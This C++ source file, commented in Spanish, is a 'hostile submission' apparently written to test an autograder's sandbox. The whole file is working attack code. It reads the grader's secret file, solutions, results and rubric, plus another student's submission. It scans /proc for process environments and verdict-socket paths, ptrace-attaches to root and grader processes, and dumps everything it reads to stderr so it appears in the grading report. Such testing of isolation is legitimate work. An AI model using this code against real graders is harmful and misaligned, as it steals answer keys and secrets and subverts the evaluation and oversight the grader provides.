// Entrega hostil: intenta leer lo que no es suyo en la máquina que corrige: el código del
// corrector y lo que el profesor dejó junto a él (/autograder/source), las soluciones, los
// resultados, las carpetas de veredictos y la memoria o el entorno de los procesos de
// confianza (por /proc). Lo que lee lo imprime por la salida de errores, que acaba en el informe.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <set>
#include <string>
static void mostrar(const std::string& ruta) {
    int fd = open(ruta.c_str(), O_RDONLY);
    if (fd < 0) return;
    char b[2048];
    ssize_t n = read(fd, b, sizeof b);
    if (n > 0) { dprintf(2, "LEIDO %s:\n", ruta.c_str()); if (write(2, b, static_cast<size_t>(n)) < 0) {} }
    close(fd);
}
static void listar(const std::string& ruta) {
    DIR* d = opendir(ruta.c_str());
    if (!d) return;
    while (dirent* e = readdir(d)) {
        std::string n = e->d_name;
        if (n == "." || n == "..") continue;
        dprintf(2, "VISTO %s/%s\n", ruta.c_str(), n.c_str());
        mostrar(ruta + "/" + n);
    }
    closedir(d);
}
int main() {
    for (const char* r : {"/autograder/source/SECRETO.txt", "/autograder/source/solutions/01_socket/servidor.cpp",
                          "/autograder/results/results.json", "/autograder/source/tests/corrector/rubrica.conf",
                          "../../honrada/01_socket/servidor.cpp"})
        mostrar(r);
    for (const char* d : {"/autograder", "/autograder/source", "/autograder/results", "/corrector/veredictos"}) listar(d);
    std::set<std::string> carpetas;
    if (DIR* d = opendir("/proc")) {
        while (dirent* e = readdir(d)) {
            std::string p = std::string("/proc/") + e->d_name;
            mostrar(p + "/environ");
            std::ifstream f(p + "/cmdline");
            std::string arg;
            while (std::getline(f, arg, '\0'))
                if (arg.rfind("--sockets-veredictos=", 0) == 0) carpetas.insert(arg.substr(21));
            // Trazar a los de confianza: los de root o los ejecutables de pruebas y del corrector
            // (a los suyos podría, pero solo estropearía sus otras pruebas).
            long pid = std::atol(e->d_name);
            std::ifstream st(p + "/status");
            std::string linea, comm, uid;
            while (std::getline(st, linea)) {
                if (linea.rfind("Name:", 0) == 0) comm = linea.substr(6);
                if (linea.rfind("Uid:", 0) == 0) uid = linea.substr(5, linea.find_first_of(" \t", 5) - 5);
            }
            bool de_confianza = uid == "0" || comm.rfind("prueba_", 0) == 0 || comm.rfind("corrector_", 0) == 0;
            if (pid > 0 && pid != getpid() && de_confianza && ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
                dprintf(2, "TRAZADO %ld (%s, uid %s)\n", pid, comm.c_str(), uid.c_str());
                ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
            }
        }
        closedir(d);
    }
    for (const auto& c : carpetas) { listar(c); listar(c + "/.."); listar(c + "/../.."); }
    return 0;
}
